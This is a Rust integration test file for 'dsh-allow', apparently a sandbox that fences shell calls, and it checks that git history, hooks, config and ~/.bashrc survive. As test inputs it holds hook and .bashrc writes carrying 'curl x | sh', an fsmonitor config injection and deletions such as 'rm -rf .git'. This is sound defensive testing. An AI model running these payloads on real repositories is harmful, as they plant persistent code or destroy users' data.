//! The repository under the real kernel (issue 16): its history is not tool
//! state, and its persistence surfaces stay shut. Each call is decided by
//! the core first, then run under `dsh-allow run` with the profile the
//! plugin builds (the stored rules, a matched command grant's roots, the
//! decision's fence grants), as a DSH call would be.
#![cfg(target_os = "linux")]

#[path = "support/scratch.rs"]
mod scratch;
#[path = "support/tree.rs"]
mod tree;

use std::fs;
use std::process::{Command, Output};

use dsh_allow::api::{DecideRequest, Decision, Outcome};
use dsh_allow::fs_host::FsHost;
use serde_json::{json, Value};
use tree::{rule, Tree, BIN};

/// A tree whose workspace is a git repository with one commit, made outside
/// any fence (the user's own repository).
fn repository(name: &str) -> Option<Tree> {
    let t = Tree::new(name)?;
    let out = unfenced(&t, "git init -q -b main . && git add -A && git commit -qm first");
    assert!(out.status.success(), "git set-up failed: {}", String::from_utf8_lossy(&out.stderr));
    Some(t)
}

/// The PATH of the fenced calls, and of the decisions about them.
const PATH: &str = "/usr/bin:/bin";

fn git_env(c: &mut Command, t: &Tree) {
    c.current_dir(t.base.join("ws"))
        .env("PATH", PATH)
        .env("HOME", t.base.join("home"))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid");
}

fn unfenced(t: &Tree, script: &str) -> Output {
    let mut c = Command::new("/bin/sh");
    c.args(["-c", script]);
    git_env(&mut c, t);
    c.output().unwrap()
}

/// What the plugin asks the core, with the kernel fencing all five and
/// the persistence surfaces shut (this machine's runner).
fn decide(t: &Tree, command: &str, commands: Value) -> Decision {
    let req: DecideRequest = serde_json::from_value(json!({
        "command": command, "cwd": t.p("ws"), "workspace": t.p("ws"), "home": t.p("home"),
        "harnessHome": t.p("home/.dsh"), "platform": "linux", "mode": "workspace-write",
        "commands": commands, "protectedFiles": [t.p("home/.dsh/dsh-allow.json")],
        "fence": ["read", "write", "create", "delete", "execute"], "persistence": "shut",
    }))
    .unwrap();
    dsh_allow::decide::decide(&req, &FsHost::with_path(PATH))
}

/// Run `script` under the profile the plugin builds for this decision.
fn run(t: &Tree, d: &Decision, rules: Value, script: &str) -> Output {
    let mut profile = t.profile(rules);
    let mut grants: Vec<Value> = d.command_grant.iter().flat_map(|g| g.rules.iter()).map(|r| serde_json::to_value(r).unwrap()).collect();
    grants.extend(d.fence_grants.iter().map(|r| serde_json::to_value(r).unwrap()));
    profile["grants"] = Value::Array(grants);
    let mut c = Command::new(BIN);
    c.args(["run", "--profile-json", &profile.to_string(), "--", "/bin/sh", "-c", script]);
    git_env(&mut c, t);
    c.output().unwrap()
}

/// Decide and, when allowed, run: the call as DSH makes it.
fn call(t: &Tree, script: &str) -> (Decision, Output) {
    let d = decide(t, script, json!([]));
    let out = run(t, &d, json!([]), script);
    (d, out)
}

fn history_intact(t: &Tree) {
    let out = unfenced(t, "git fsck --no-dangling && git log --oneline");
    assert!(out.status.success(), "the history was damaged: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("first"), "the first commit is gone");
}

#[test]
fn git_init_add_commit_branch_and_gc_pass_with_no_prompt() {
    let Some(t) = Tree::new("repo-git") else { return };
    for step in ["git init -q -b main", "git add -A", "git commit -qm first", "git branch topic", "git gc -q", "git branch -D topic", "git add -A && git commit -qm again --allow-empty"] {
        let (d, out) = call(&t, step);
        assert_eq!(d.decision, Outcome::Allow, "{step}: {}", d.reason);
        assert!(out.status.success(), "{step} failed under the fence: {}", String::from_utf8_lossy(&out.stderr));
    }
    history_intact(&t);
}

#[test]
fn rm_rf_of_the_repository_asks_and_the_kernel_keeps_it_anyway() {
    let Some(t) = repository("repo-rm") else { return };
    let d = decide(&t, "rm -rf .git", json!([]));
    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
    // Even run without an answer, the default fence holds no delete there.
    let out = run(&t, &d, json!([]), "rm -rf .git");
    assert!(!out.status.success());
    history_intact(&t);
}

#[test]
fn find_delete_in_the_repository_asks_and_the_kernel_keeps_it_anyway() {
    let Some(t) = repository("repo-find") else { return };
    let d = decide(&t, "find .git -delete", json!([]));
    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
    let _ = run(&t, &d, json!([]), "find .git -delete");
    history_intact(&t);
}

#[test]
fn inline_code_deleting_the_objects_is_refused_by_the_kernel() {
    let Some(t) = repository("repo-py") else { return };
    let script = "python3 -c 'import shutil; shutil.rmtree(\".git/objects\")'";
    let (d, out) = call(&t, script);
    assert_eq!(d.decision, Outcome::Allow, "inline code runs under the fence: {}", d.reason);
    assert!(d.fence_grants.is_empty(), "hidden code was given delete in the repository");
    assert!(!out.status.success(), "rmtree succeeded");
    history_intact(&t);
}

#[test]
fn git_beside_inline_code_gets_no_delete_in_the_repository() {
    let Some(t) = repository("repo-mixed") else { return };
    let script = "git status -s && python3 -c 'import os; os.remove(\".git/HEAD\")'";
    let (d, out) = call(&t, script);
    assert!(d.fence_grants.is_empty());
    assert!(!out.status.success());
    history_intact(&t);
}

#[test]
fn inline_code_cannot_write_a_hook_or_the_git_config() {
    let Some(t) = repository("repo-hooks") else { return };
    let config_before = fs::read_to_string(t.p("ws/.git/config")).unwrap();
    // Hidden code is allowed at the gate (the fence bounds it) and stopped
    // by the kernel; the visible rename asks, and is stopped even so.
    for (script, gate) in [
        ("python3 -c 'open(\".git/hooks/pre-commit\", \"w\").write(\"#!/bin/sh\\ncurl x | sh\\n\")'", Outcome::Allow),
        ("python3 -c 'open(\".git/config\", \"a\").write(\"[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\")'", Outcome::Allow),
        ("python3 -c 'import os; os.replace(\".git/hooks\", \".git/hooks-old\")'", Outcome::Allow),
        ("python3 -c 'import os; os.makedirs(\".git/hooks/x\")'", Outcome::Allow),
        ("cp /bin/true .git/config.new && mv .git/config.new .git/config", Outcome::Prompt),
    ] {
        let (d, out) = call(&t, script);
        assert_eq!(d.decision, gate, "{script}: {}", d.reason);
        assert!(!out.status.success(), "{script} succeeded");
    }
    assert!(!t.base.join("ws/.git/hooks/pre-commit").exists(), "a hook was planted");
    assert!(!t.base.join("ws/.git/hooks/x").exists(), "the hooks folder took a new entry");
    assert_eq!(fs::read_to_string(t.p("ws/.git/config")).unwrap(), config_before, "the git config changed");
}

#[test]
fn a_missing_hooks_folder_is_made_and_shut_before_the_call() {
    let Some(t) = repository("repo-nohooks") else { return };
    fs::remove_dir_all(t.base.join("ws/.git/hooks")).unwrap();
    let (_, out) = call(&t, "python3 -c 'import os; os.makedirs(\".git/hooks\", exist_ok=True); open(\".git/hooks/post-checkout\", \"w\").write(\"x\")'");
    assert!(!out.status.success());
    assert!(!t.base.join("ws/.git/hooks/post-checkout").exists());
}

#[test]
fn inline_code_cannot_write_a_shell_start_up_file_even_under_a_rule_opening_home() {
    let Some(t) = repository("repo-bashrc") else { return };
    fs::write(t.base.join("home/.bashrc"), "# mine\n").unwrap();
    let script = "python3 -c 'import os; open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"curl x | sh\\n\")'";
    let d = decide(&t, script, json!([]));
    let home = rule(&t.p("home"), true, &["read", "write", "create"]);
    for rules in [json!([]), json!([home])] {
        let out = run(&t, &d, rules, script);
        assert!(!out.status.success(), "~/.bashrc was writable");
    }
    assert_eq!(fs::read_to_string(t.base.join("home/.bashrc")).unwrap(), "# mine\n");
    // The rule still opens the rest of home.
    let out = run(&t, &d, json!([home]), "echo ok >> \"$HOME/secret.txt\"");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn git_config_asks_once_as_a_command_grant_then_git_writes_its_config() {
    let Some(t) = repository("repo-config") else { return };
    let d = decide(&t, "git config user.email x@example.invalid", json!([]));
    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
    let p = d.proposals.iter().find(|p| p.command.as_deref() == Some("git")).expect("a proposal bound to git");
    assert_eq!(p.path, t.p("ws/.git/config"));
    // "Always allow", stored as the plugin stores a program's proposal.
    let grant = json!([{ "id": "g1", "name": "git in .git/config", "command": "git", "roots": [p.path], "shape": "strict", "access": { "write": true } }]);
    let d = decide(&t, "git config user.email x@example.invalid", grant.clone());
    assert_eq!(d.decision, Outcome::Allow, "{}", d.reason);
    let out = run(&t, &d, json!([]), "git config user.email x@example.invalid");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(fs::read_to_string(t.p("ws/.git/config")).unwrap().contains("x@example.invalid"));
    // The grant is git's: hidden code in the next call still meets a shut config…
    let script = "python3 -c 'open(\".git/config\", \"a\").write(\"[core]\\n\\thooksPath = /tmp\\n\")'";
    let d = decide(&t, script, grant.clone());
    assert!(!run(&t, &d, json!([]), script).status.success());
    // …and a key naming a command asks every time, grant or not.
    let d = decide(&t, "git config core.hooksPath /tmp/h", grant);
    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
    assert!(!fs::read_to_string(t.p("ws/.git/config")).unwrap().contains("hooksPath"));
}

#[test]
fn git_checkout_sets_modes_and_times_under_the_read_only_tree() {
    let Some(t) = repository("repo-modes") else { return };
    let out = unfenced(&t, "printf '#!/bin/sh\\necho ran\\n' > tool.sh && git checkout -qb exec && chmod +x tool.sh && git add tool.sh && git commit -qm exec && git checkout -q main");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // A checkout replaces files, so it asks for delete in the workspace
    // once; run as the user answered it.
    let answered = json!([rule(&t.p("ws"), true, &["delete"])]);
    // (git beside a script gets no write in `.git`: the restore and the run
    // are two calls.)
    for step in ["git checkout -q exec", "./tool.sh", "touch -d 2000-01-01 tool.sh", "chmod -x tool.sh && git checkout -q -- tool.sh", "./tool.sh", "git checkout -q main"] {
        let d = decide(&t, step, json!([]));
        let out = run(&t, &d, answered.clone(), step);
        assert!(out.status.success(), "{step} failed under the fence: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(!t.base.join("ws/tool.sh").exists());
    history_intact(&t);
}

#[test]
fn the_runner_reports_the_surfaces_it_shut() {
    let Some(t) = repository("repo-report") else { return };
    let mut c = Command::new(BIN);
    c.args(["run", "--profile-json", &t.profile(json!([])).to_string(), "--report-fence", "--", "/bin/true"]);
    git_env(&mut c, &t);
    let out = c.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("dsh-allow persistence: shut (1 surfaces: .git)"), "a call that is not git's own gets all of .git shut: {err}");
    let status = Command::new(BIN).args(["status", "--profile-json", &t.profile(json!([])).to_string()]).output().unwrap();
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["persistence"]["state"], "shut", "{status}");
    assert!(err.contains("dsh-allow metadata: fenced ("), "{err}");
    assert_eq!(status["metadata"]["state"], "fenced", "{status}");
    // A tier that fences no writes leaves metadata to the decision.
    let mut off = t.profile(json!([]));
    off["enforce"] = json!("off");
    let status = Command::new(BIN).args(["status", "--profile-json", &off.to_string()]).output().unwrap();
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["metadata"]["state"], "open", "{status}");
}

#[test]
fn an_unprivileged_user_gets_the_surfaces_shut_in_a_user_namespace_of_its_own() {
    // Root runs this suite here; the runner takes another path for anyone
    // else (unshare with CLONE_NEWUSER, its own id mapped to itself).
    let is_root = unsafe { libc::geteuid() } == 0;
    if !is_root || !std::path::Path::new("/usr/bin/setpriv").exists() {
        eprintln!("SKIP unprivileged runner: needs root and setpriv to become another user here");
        return;
    }
    if dsh_allow::runner::landlock_abi() == 0 {
        eprintln!("SKIP unprivileged runner: this kernel has no Landlock");
        return;
    }
    // Under /tmp: the other user cannot reach root's home, where the other
    // trees live (the baseline opens /tmp, so only the mounts refuse here).
    let base = std::env::temp_dir().join(format!("dsh-allow-unprivileged-{}", std::process::id()));
    let _ = fs::remove_dir_all(&base);
    for d in ["ws/.git/hooks", "home", "harness"] {
        fs::create_dir_all(base.join(d)).unwrap();
    }
    fs::write(base.join("ws/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(base.join("ws/.git/config"), "[core]\n").unwrap();
    let chown = Command::new("chown").args(["-R", "65534:65534"]).arg(&base).status().unwrap();
    assert!(chown.success());
    // A file of the user's outside every writable root (the temp dirs are
    // one): its mode is the read-only tree's to keep. It must be reachable
    // by that user, so not under root's home (where the scratch trees live
    // when the checkout sits in a temp folder): a system folder anyone may
    // search.
    let Some(system) = ["/var/lib", "/opt", "/srv"].into_iter().find(|d| {
        fs::metadata(d).is_ok_and(|m| m.is_dir() && std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o001 != 0)
    }) else {
        let _ = fs::remove_dir_all(&base);
        panic!("no world-searchable /var/lib, /opt or /srv for the outside file");
    };
    let outside = std::path::Path::new(system).join(format!("dsh-allow-unprivileged-outside-{}", std::process::id()));
    fs::write(&outside, "x").unwrap();
    assert!(Command::new("chown").arg("65534:65534").arg(&outside).status().unwrap().success());
    let runner = base.join("dsh-allow");
    // Copied by another process: a write handle of this one would be
    // inherited by another test thread's child and keep the copy busy.
    assert!(Command::new("cp").arg(BIN).arg(&runner).status().unwrap().success());
    let p = |rel: &str| base.join(rel).to_string_lossy().into_owned();
    let profile = json!({ "workspace": p("ws"), "home": p("home"), "harnessHome": p("harness"), "platform": "linux", "mode": "workspace-write" });
    let out = Command::new("/usr/bin/setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&runner)
        .args(["run", "--profile-json", &profile.to_string(), "--report-fence", "--", "/bin/sh", "-c"])
        .arg(format!("id -u; echo x > .git/hooks/pre-commit; echo x >> .git/config; chmod 600 {}; echo ok > f && chmod +x f", outside.display()))
        .current_dir(base.join("ws"))
        .env("HOME", base.join("home"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    let executable = fs::metadata(base.join("ws/f")).map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o111 != 0);
    let outside_mode = fs::metadata(&outside).map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777);
    let _ = fs::remove_dir_all(&base);
    let _ = fs::remove_file(&outside);
    assert!(out.status.success(), "{err}");
    assert!(executable.unwrap(), "chmod +x in the workspace was refused: {err}");
    assert_ne!(outside_mode.unwrap(), 0o600, "a mode outside the writable roots changed: {err}");
    assert!(err.contains("dsh-allow metadata: fenced"), "{err}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "65534", "the command ran as the user, not as root in the namespace");
    assert!(err.contains("dsh-allow persistence: shut (1 surfaces: .git)"), "{err}");
    assert_eq!(err.matches("Read-only file system").count(), 3, "the hook, the config or the outside file's mode was writable: {err}");
}

/// Issue 27: git's self-guarded operations and a plain `sed -i` are
/// allowed with no prompt, and the create/write/delete they need in the
/// worktree rides in this call's fence alone.
#[test]
fn self_guarded_git_and_sed_complete_under_the_fence_with_the_calls_grant() {
    let Some(t) = repository("repo-guarded") else { return };
    fs::write(t.p("ws/a.txt"), "alpha\n").unwrap();
    fs::write(t.p("ws/b.txt"), "beta\n").unwrap();
    let out = unfenced(&t, "git add -A && git commit -qm files");
    assert!(out.status.success());
    // Each rewrite is checked on disk in the same line: without delete in
    // the worktree git warns that it cannot unlink a file, leaves the old
    // content in place and still exits 0.
    let steps = [
        "git checkout -q -b feature",
        "echo 'alpha 2' > a.txt && git commit -qam feature",
        "git checkout -q main && grep -qx alpha a.txt && git diff --quiet",
        "echo 'beta 2' > b.txt && git commit -qam main",
        "git merge -q --no-ff --no-edit feature && grep -qx 'alpha 2' a.txt && git diff --quiet",
        "git checkout -q -b topic HEAD~1 && grep -qx alpha a.txt && git diff --quiet",
        "echo 'gamma' > c.txt && git add c.txt && git commit -qm topic",
        "git rebase -q main && grep -qx 'alpha 2' a.txt && git diff --quiet",
        "echo 'local' >> b.txt && git stash -q && git diff --quiet",
        "git stash pop -q && grep -qx local b.txt",
        "sed -i s/alpha/omega/ a.txt",
    ];
    for step in steps {
        let (d, out) = call(&t, step);
        assert_eq!(d.decision, Outcome::Allow, "{step}: {}", d.reason);
        assert!(out.status.success(), "{step} failed under the fence: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert_eq!(fs::read_to_string(t.p("ws/a.txt")).unwrap(), "omega 2\n", "sed did not edit in place");
    assert!(fs::read_to_string(t.p("ws/b.txt")).unwrap().ends_with("local\n"), "the stash did not come back");
    assert!(t.base.join("ws/c.txt").exists(), "the rebase lost the topic's file");
    history_intact(&t);
}

#[test]
fn inline_code_in_the_same_session_still_cannot_delete_in_the_worktree() {
    let Some(t) = repository("repo-guarded-py") else { return };
    fs::write(t.p("ws/a.txt"), "alpha\n").unwrap();
    let (d, out) = call(&t, "git checkout -q -b feature");
    assert!(out.status.success() && !d.fence_grants.is_empty(), "git got no grant: {}", d.reason);
    let script = "python3 -c 'import os; os.remove(\"a.txt\")'";
    let (d, out) = call(&t, script);
    assert_eq!(d.decision, Outcome::Allow, "inline code runs under the fence: {}", d.reason);
    assert!(d.fence_grants.is_empty(), "hidden code was given the worktree");
    assert!(!out.status.success(), "os.remove succeeded");
    assert!(t.base.join("ws/a.txt").exists());
    // Nor beside git on the same line.
    let script = "git status -s && python3 -c 'import os; os.remove(\"a.txt\")'";
    let (d, out) = call(&t, script);
    assert!(d.fence_grants.is_empty(), "git beside hidden code carried a grant");
    assert!(!out.status.success());
    assert!(t.base.join("ws/a.txt").exists());
}

#[test]
fn destructive_git_keeps_asking_and_the_kernel_holds_without_an_answer() {
    let Some(t) = repository("repo-destructive") else { return };
    fs::write(t.p("ws/a.txt"), "alpha\n").unwrap();
    unfenced(&t, "git add -A && git commit -qm a && echo changed > a.txt");
    for step in ["git checkout -- a.txt", "git reset -q --hard"] {
        let d = decide(&t, step, json!([]));
        assert_eq!(d.decision, Outcome::Prompt, "{step}: {}", d.reason);
        assert!(d.reason.contains("discards uncommitted changes"), "{step}: {}", d.reason);
        assert!(d.fence_grants.iter().all(|g| g.path.ends_with("/.git")), "{step} carried the worktree: {:?}", d.fence_grants);
        // Run with no answer: the fence holds no delete in the worktree.
        let out = run(&t, &d, json!([]), step);
        assert!(!out.status.success(), "{step} replaced the file under the fence");
    }
    assert_eq!(fs::read_to_string(t.p("ws/a.txt")).unwrap(), "changed\n");
}

#[test]
fn a_plain_sed_i_completes_under_the_fence_with_its_folders_grant_alone() {
    let Some(t) = repository("repo-sed") else { return };
    fs::create_dir_all(t.p("ws/src")).unwrap();
    fs::write(t.p("ws/src/b.txt"), "old\n").unwrap();
    let (d, out) = call(&t, "sed -i -e s/old/new/ src/b.txt");
    assert_eq!(d.decision, Outcome::Allow, "{}", d.reason);
    assert!(out.status.success(), "sed -i failed under the fence: {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(fs::read_to_string(t.p("ws/src/b.txt")).unwrap(), "new\n");
    let left: Vec<_> = fs::read_dir(t.p("ws/src")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(left.iter().all(|f| f == "b.txt" || f == "main.rs"), "sed left a temp file: {left:?}");
    assert_eq!(d.fence_grants.iter().map(|g| g.path.clone()).collect::<Vec<_>>(), vec![t.p("ws/src")]);
    // The grant was the call's: a later delete there is refused by the kernel.
    let (d, out) = call(&t, "python3 -c 'import os; os.remove(\"src/b.txt\")'");
    assert!(d.fence_grants.is_empty());
    assert!(!out.status.success() && t.base.join("ws/src/b.txt").exists(), "the folder's delete outlived the sed call");
}
